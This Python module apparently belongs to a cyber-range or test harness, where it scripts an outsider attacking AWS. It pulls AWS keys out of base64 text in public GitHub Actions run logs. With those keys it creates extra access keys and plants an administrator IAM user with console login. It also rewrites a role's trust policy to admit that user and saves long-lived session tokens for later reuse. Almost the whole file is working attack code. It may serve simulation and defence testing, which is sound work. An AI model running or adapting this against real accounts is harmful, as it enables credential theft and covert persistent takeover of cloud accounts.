"""The attacker: an outsider with a free GitHub account. It reads the public log, uses the key, and keeps trying."""

from __future__ import annotations

import base64
import binascii
import contextlib
import io
import json
import re
import secrets
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlsplit

import requests
from botocore.exceptions import BotoCoreError, ClientError

from bot.range.shell import aws_client

PLANTED_USER, ROLE = "svc-cache-sync", "ferry-deploy"
LATER_USER = "svc-log-sync"  # made when somebody has left it the time
REFUSALS = {
    "AccessDenied", "InvalidClientTokenId", "InvalidAccessKeyId", "SignatureDoesNotMatch", "ExpiredToken",
    "InvalidToken",
}  # fmt: skip
_RUN = re.compile(r"/([\w.-]+/[\w.-]+)/actions/runs/(\d+)")
_LINE = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d+Z ?", re.MULTILINE)
_WRAPPED = re.compile(r"^(?:[A-Za-z0-9+/]{20,}\n)*[A-Za-z0-9+/]+={0,2}$", re.MULTILINE)
_KEY = re.compile(r"AWS_ACCESS_KEY_ID=(\S+)")
_SECRET = re.compile(r"AWS_SECRET_ACCESS_KEY=(\S+)")
_TOKEN = re.compile(r"AWS_SESSION_TOKEN=(\S+)")


class NothingFound(Exception):
    """The log is not readable, or holds no key."""


@dataclass(frozen=True, slots=True)
class Loot:
    """Credentials that the attacker holds."""

    key_id: str
    secret: str
    token: str | None = None

    def __repr__(self) -> str:
        return f"Loot({self.key_id})"


class Attacker:
    """A scripted client. It holds what it took in ``loot``, by the names of its tries."""

    def __init__(self, aws_url: str, github_url: str, token: str) -> None:
        self._aws, self._github, self._token = aws_url, github_url, token
        self.loot: dict[str, Loot] = {}

    def client(self, service: str, loot: Loot, region: str = "us-east-1") -> Any:
        """A boto3 client that signs with some loot."""
        return aws_client(self._aws, service, region, loot.key_id, loot.secret, loot.token)

    def read_log(self, run_url: str) -> Loot:
        """The key in a run's public log. Raises ``NothingFound`` when there is none to be had."""
        for text in decoded_log(self._github, self._token, run_url):
            if (loot := key_in(text)) is not None:
                return loot
        raise NothingFound("no key in the log")

    def abuse(self, run_url: str) -> list[dict[str, Any]]:
        """Take the key from the log and use it. Returns the acts with what came of each."""
        key = self.read_log(run_url)
        return [{"act": "github:ReadRunLog", "ok": True, "code": "", "made": ""}, *self.use(key)]

    def use(self, key: Loot, role: str = ROLE) -> list[dict[str, Any]]:
        """Use a key, or a session, for all that it is worth. Returns the acts with what came of each.

        ``role``: of its account, into which the planted user is let; '' for none.
        """
        self.loot = {"key": key}
        acts: list[dict[str, Any]] = []
        iam, sts = self.client("iam", key), self.client("sts", key)

        def act(name: str, made: str, call: Callable[[], Any]) -> Any:
            code, answer = "", None
            try:
                answer = call()
            except ClientError as exc:
                code = str(exc.response["Error"]["Code"])
            acts.append({"act": name, "ok": not code, "code": code, "made": made})
            return answer

        me = act("sts:GetCallerIdentity", "", sts.get_caller_identity)
        victim = str(me["Arn"]).rsplit("/", 1)[-1] if me else ""
        self._take("second-key", act("iam:CreateAccessKey", victim, lambda: iam.create_access_key(UserName=victim)))
        act("iam:CreateUser", PLANTED_USER, lambda: iam.create_user(UserName=PLANTED_USER))
        act("iam:AttachUserPolicy", PLANTED_USER, lambda: iam.attach_user_policy(
            UserName=PLANTED_USER, PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess"))  # fmt: skip
        act("iam:PutUserPolicy", PLANTED_USER, lambda: iam.put_user_policy(
            UserName=PLANTED_USER, PolicyName="cache", PolicyDocument=_everything()))  # fmt: skip
        self._take("planted-user", act(
            "iam:CreateAccessKey", PLANTED_USER, lambda: iam.create_access_key(UserName=PLANTED_USER)))  # fmt: skip
        act("iam:CreateLoginProfile", PLANTED_USER, lambda: iam.create_login_profile(
            UserName=PLANTED_USER, Password=secrets.token_urlsafe(24), PasswordResetRequired=False))  # fmt: skip
        found = act("iam:GetRole", "", lambda: iam.get_role(RoleName=role)) if role else None
        if found:
            opened = _let_in(found["Role"]["AssumeRolePolicyDocument"], victim)
            act("iam:UpdateAssumeRolePolicy", role, lambda: iam.update_assume_role_policy(
                RoleName=role, PolicyDocument=opened))  # fmt: skip
            self._take("role-session", act("sts:AssumeRole", role, lambda: sts.assume_role(
                RoleArn=found["Role"]["Arn"], RoleSessionName="cache-sync")))  # fmt: skip
        self._take("saved-session", act(
            "sts:GetSessionToken", victim, lambda: sts.get_session_token(DurationSeconds=129600)))  # fmt: skip
        return acts

    def assumes(self, arn: str) -> dict[str, Any]:
        """Take a session of a role that lets the key in, whosever account it is of. Returns the act."""
        code = ""
        try:
            took = self.client("sts", self.loot["key"]).assume_role(RoleArn=arn, RoleSessionName="cache-sync")
            self._take("role-session", took)
        except ClientError as exc:
            code = str(exc.response["Error"]["Code"])
        return {"act": "sts:AssumeRole", "ok": not code, "code": code, "made": arn}

    def saves(self, key: Loot) -> dict[str, Any]:
        """Save a session of a key for later; nothing that would draw attention. Returns the act."""
        self.loot, code = {"key": key}, ""
        try:
            self._take("saved-session", self.client("sts", key).get_session_token(DurationSeconds=129600))
        except ClientError as exc:
            code = str(exc.response["Error"]["Code"])
        return {"act": "sts:GetSessionToken", "ok": not code, "code": code, "made": "ferry-ci"}

    def comes_back(self) -> str:
        """Use the key once more: a user that nobody knows of yet. Returns its name."""
        iam = self.client("iam", self.loot["key"])
        iam.create_user(UserName=LATER_USER)
        iam.put_user_policy(UserName=LATER_USER, PolicyName="cache", PolicyDocument=_everything())
        self._take("later-user", iam.create_access_key(UserName=LATER_USER))
        return LATER_USER

    def takes_again(self, run_url: str) -> None:
        """Read a later log, and keep what it holds with a session of it."""
        key = self.loot["new-key"] = self.read_log(run_url)
        self._take("new-session", self.client("sts", key).get_session_token(DurationSeconds=129600))

    def _take(self, name: str, answer: Any) -> None:
        if answer and "AccessKey" in answer:
            self.loot[name] = Loot(answer["AccessKey"]["AccessKeyId"], answer["AccessKey"]["SecretAccessKey"])
        elif answer:
            found = answer["Credentials"]
            self.loot[name] = Loot(found["AccessKeyId"], found["SecretAccessKey"], found["SessionToken"])

    def tries(self) -> list[dict[str, Any]]:
        """Try everything that was taken. ``refused`` is about a real call; GetCallerIdentity passes under a Deny."""
        found = []
        for name, loot in self.loot.items():
            identity = code_of(self.client("sts", loot).get_caller_identity)
            code = self.probe(loot)
            found.append({"name": name, "refused": code in REFUSALS, "code": code, "identity_code": identity})
        return found

    def probe(self, loot: Loot) -> str:
        """What a real call (s3:ListBuckets) with some loot is answered: a code, or '' when it passes."""
        return code_of(self.client("s3", loot).list_buckets)


def code_of(call: Callable[[], Any]) -> str:
    """What AWS said: a code, or '' when it let the call pass."""
    try:
        call()
    except ClientError as exc:
        return str(exc.response["Error"]["Code"])
    except BotoCoreError as exc:
        return type(exc).__name__
    return ""


def decoded_log(github: str, token: str, run_url: str) -> Iterator[str]:
    """What stands as base64 in a run's public log, which may be wrapped over lines. Raises ``NothingFound``."""
    where = _RUN.fullmatch(urlsplit(run_url).path)
    if where is None:
        raise NothingFound(f"{run_url!r} is not the address of a run")
    with requests.Session() as session:
        session.trust_env = False
        found = session.get(
            f"{github}/repos/{where[1]}/actions/runs/{where[2]}/logs",
            headers={"Authorization": f"Bearer {token}"}, timeout=20,
        )  # fmt: skip
    if found.status_code != requests.codes.ok:
        raise NothingFound(f"the log answers {found.status_code}")
    with zipfile.ZipFile(io.BytesIO(found.content)) as archive:
        for name in archive.namelist():
            yield from decoded(archive.read(name).decode(errors="replace"))


def token_in_log(token: re.Pattern[str], github: str, reader: str, run_url: str) -> re.Match[str]:
    """The first that stands as base64 in a run's public log, read by ``reader``. Raises ``NothingFound``."""
    match = next(filter(None, map(token.search, decoded_log(github, reader, run_url))), None)
    if match is None:
        raise NothingFound("no token in the log")
    return match


def decoded(log: str) -> Iterator[str]:
    """What stands as base64 in a log, which may be wrapped over lines."""
    plain = _LINE.sub("", log).replace("\r", "")
    for block in _WRAPPED.findall(plain):
        packed = re.sub(r"\s", "", block)
        with contextlib.suppress(binascii.Error):  # a word that stands alone in a line
            yield base64.b64decode(packed[: len(packed) // 4 * 4]).decode(errors="replace")


def key_in(text: str) -> Loot | None:
    """The key in a printed environment, with its token where it is a session's."""
    key, secret, token = _KEY.search(text), _SECRET.search(text), _TOKEN.search(text)
    return Loot(key[1], secret[1], token[1] if token else None) if key and secret else None


def _everything() -> str:
    return json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]})


def _let_in(trust: Any, victim: str) -> str:
    """The role's trust policy with the planted user let in beside those it trusts."""
    statement = trust["Statement"][0]
    before = statement["Principal"]["AWS"]
    arns = before if isinstance(before, list) else [before]
    planted = next(arn for arn in arns if arn.endswith(f"/{victim}")).replace(victim, PLANTED_USER)
    opened = {**statement, "Principal": {"AWS": [*arns, planted]}}
    return json.dumps({**trust, "Statement": [opened, *trust["Statement"][1:]]})
